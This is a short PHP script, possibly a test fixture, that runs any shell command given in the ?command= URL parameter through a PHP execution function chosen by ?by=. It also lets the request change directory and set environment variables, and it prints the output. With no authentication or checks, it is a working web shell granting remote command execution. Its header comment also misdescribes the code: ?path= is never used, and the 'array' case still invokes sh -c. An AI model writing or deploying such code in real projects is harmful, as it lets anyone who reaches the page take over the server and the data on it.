<?php
// Starts ?command= in the way that ?by= names, and prints the child's output. ?path= is run as an
// array, without a shell.
$command = $_GET['command'] ?? '';
if (isset($_GET['cd'])) {
    chdir($_GET['cd']);
}
foreach ($_GET['env'] ?? [] as $setting) {
    putenv($setting);
}
$out = ['pipe', 'w'];
switch ($_GET['by'] ?? 'exec') {
    case 'exec':
        exec($command, $lines);
        echo implode("\n", $lines);
        break;
    case 'shell_exec':
        echo shell_exec($command);
        break;
    case 'passthru':
        passthru($command);
        break;
    case 'popen':
        $stream = popen($command, 'r');
        echo stream_get_contents($stream);
        pclose($stream);
        break;
    case 'proc_open':
        $process = proc_open($command, [1 => $out], $pipes);
        echo stream_get_contents($pipes[1]);
        proc_close($process);
        break;
    case 'proc_open array':
        $process = proc_open(['sh', '-c', $command], [1 => $out], $pipes);
        echo stream_get_contents($pipes[1]);
        proc_close($process);
        break;
    case 'pcntl_exec':
        $file = tempnam(sys_get_temp_dir(), 'child');
        $child = pcntl_fork();
        if ($child === 0) {
            pcntl_exec('/bin/sh', ['-c', "exec >$file; $command"]);
        }
        pcntl_waitpid($child, $status);
        readfile($file);
        unlink($file);
        break;
}
